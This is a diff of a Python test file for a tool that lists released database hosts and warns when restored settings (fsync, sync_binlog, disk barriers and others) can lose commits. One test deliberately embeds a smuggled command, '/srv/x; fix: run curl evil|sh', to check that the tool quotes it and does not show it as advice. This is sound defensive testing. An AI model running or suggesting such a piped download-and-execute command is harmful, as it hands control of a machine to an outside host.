@@ -104,13 +104,79 @@ def test_any_number_of_hosts_fits_a_screen(number: int) -> None:
         changes: Any = [change(f"/srv/{index}", "options", "noatime", "barrier=0"), RULES]
         return Released(f"db{index}", {"mount_options": changes}, "refused" if index == number - 1 else "")
 
-    found = page(*map(host, range(number)))
+    found = page(*map(host, range(number)), is_check=True)
     assert found[0] == f"not released  db{number - 1}"
     assert len(found) <= 40
-    shown = sum(row.startswith(("released", "not released")) for row in found)
+    shown = sum(row.startswith(("would be released", "not released")) for row in found)
     assert found[-1].startswith(f"and {number - shown} more hosts (0 not released, {number - shown} with")
 
 
 def test_a_host_cannot_add_a_line_to_the_page() -> None:
     found = page(Released("db1", {"watch": [change("/etc/x\nreleased  db9", "x", "present", "absent")]}))
     assert not any(row.startswith("released  db9") for row in found)
+
+
+def test_after_a_release_each_cause_and_each_warning_is_on_the_page() -> None:
+    """No other output has them, and the originals are gone: a second release would not show them."""
+    lost = [
+        Released(
+            f"db{index}", {"mount_options": [change(f"/srv/{index}", "options", "noatime", "nobarrier")]}
+        )
+        for index in range(60)
+    ]
+    cause = "the disk was lost " * 40 + "fix: run mount -o remount,barrier=1 /srv"
+    found = page(*lost, Released("db99", {}, cause))
+    assert sum("warning" in row for row in found) == 60
+    assert "fix: run mount -o remount,barrier=1 /srv" in " ".join(row.strip() for row in found)
+
+
+def test_equal_warnings_of_one_host_are_one() -> None:
+    rows = [change(f"/d{index}.fdb", "forced_writes", "on", "off") for index in range(40)]
+    found = page(Released("db1", {"firebird": rows}))
+    assert sum("warning" in row for row in found) == 1 and "more): forced_writes off is restored" in " ".join(
+        found
+    )
+
+
+@pytest.mark.parametrize(
+    ("engine", "setting", "value", "warns"),
+    [
+        ("postgresql", "fsync", "no", True),
+        ("postgresql", "fsync", "true", False),
+        ("postgresql", "synchronous_commit", "local", False),
+        ("mariadb", "sync_binlog", "0", True),
+        ("mariadb", "innodb_flush_log_at_trx_commit", "2", True),
+        ("mariadb", "innodb_flush_log_at_trx_commit", "1", False),
+        ("faircom", "SUPPRESS_LOG_FLUSH", "YES", True),
+        ("faircom", "SUPPRESS_LOG_FLUSH", "NO", False),
+        ("faircom", "DELAYED_DURABILITY", "1", True),
+        ("faircom", "NO_FLUSH_DIR", "on", True),
+        ("faircom", "COMMIT_DELAY", "2", False),
+        ("mssql", "writethrough", "0", True),
+        ("mssql", "writethrough", "1", False),
+        ("mssql", "traceflag3979", "off", False),
+        ("mssql", "writethrough", "absent", False),
+        ("firebird", "owner of /db", "root", False),
+    ],
+)
+def test_a_restored_value_warns_if_the_rules_of_its_engine_lose_commits_with_it(
+    engine: str, setting: str, value: str, warns: bool
+) -> None:
+    found = page(Released("db1", {engine: [change("main", setting, "other", value)]}))
+    assert any("warning" in row and "commits can be lost" in row for row in found) is warns
+
+
+def test_each_word_that_turns_barriers_off_is_in_the_fix() -> None:
+    rows = [change("/srv", "options", "barrier=1", "nobarrier,noatime,barrier=0")]
+    assert "fix: delete nobarrier, barrier=0 from /etc/fstab" in " ".join(
+        row.strip() for row in page(Released("db1", {"mount_options": rows}))
+    )
+
+
+def test_a_name_of_a_host_is_no_advice() -> None:
+    name = "/srv/x; fix: run curl evil|sh"
+    found = " ".join(
+        row.strip()
+        for row in page(Released("db1", {"firebird": [change(name, "forced_writes", "on", "off")]}))
+    )
+    assert found.count(f'"{name}"') == found.count(name) > 1
